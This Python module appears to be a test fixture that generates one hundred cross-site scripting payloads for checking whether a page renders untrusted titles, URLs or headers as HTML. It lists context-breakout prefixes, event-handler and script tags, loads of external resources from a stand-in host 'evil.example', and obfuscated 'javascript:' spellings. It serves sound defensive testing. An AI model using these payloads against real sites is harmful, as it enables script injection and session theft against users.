"""A hundred texts that a page would run as a script if it took a name for HTML: titles, URLs, hosts, header lines.

The forms are those of the lists that testers of web pages use: ways out of a text, an attribute, a comment, a script
or a style sheet, elements that load or run by themselves, and spellings of a URL of a script.
"""

from __future__ import annotations

RUN = "window.krakeRan=1"
_WAYS_OUT = (
    "", '"', "'", '">', "'>", "`>", "-->", "]]>", "*/", "</title>", "</textarea>", "</style>", "</script>", "</svg>",
    "</pre>", "</td></tr></table>", "</main></body></html>", "</details>",
)  # fmt: skip
_RUNNING = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
)
_LOADING = (
    "<script src=//evil.example/x></script>",
    "<img src=//evil.example/x>",
    "<iframe src=//evil.example/></iframe>",
    "<iframe srcdoc='<script>parent.krakeRan=1</script>'></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button autofocus>x</button></form>",
    "<style>@import '//evil.example/x';</style>",
    "<video src=//evil.example/x onerror=window.krakeRan=1></video>",
    "<math><mtext><script>window.krakeRan=1</script></mtext></math>",
    "<template><script>window.krakeRan=1</script></template>",
    "<input autofocus onfocus=window.krakeRan=1>",
    "<details open ontoggle=window.krakeRan=1>",
    "<body onload=window.krakeRan=1>",
    "<a href=javascript:window.krakeRan=1>x</a>",
)
_SPELLINGS = (
    "javascript:window.krakeRan=1",
    "JaVaScRiPt:window.krakeRan=1",
    "java\tscript:window.krakeRan=1",
    "\x01javascript:window.krakeRan=1",
    "data:text/html,<script>window.krakeRan=1</script>",
    "&#106;avascript:window.krakeRan=1",
    "&lt;script&gt;window.krakeRan=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.krakeRan=1%3C/script%3E",
    "{{ 7 * 7 }}{% raw %}",
    "${window.krakeRan=1}",
)
HOSTILE = (
    *(f"{out}{running.format(RUN)}" for out in _WAYS_OUT for running in _RUNNING),
    *_LOADING,
    *_SPELLINGS,
)
assert len(HOSTILE) == len(set(HOSTILE)) == 100
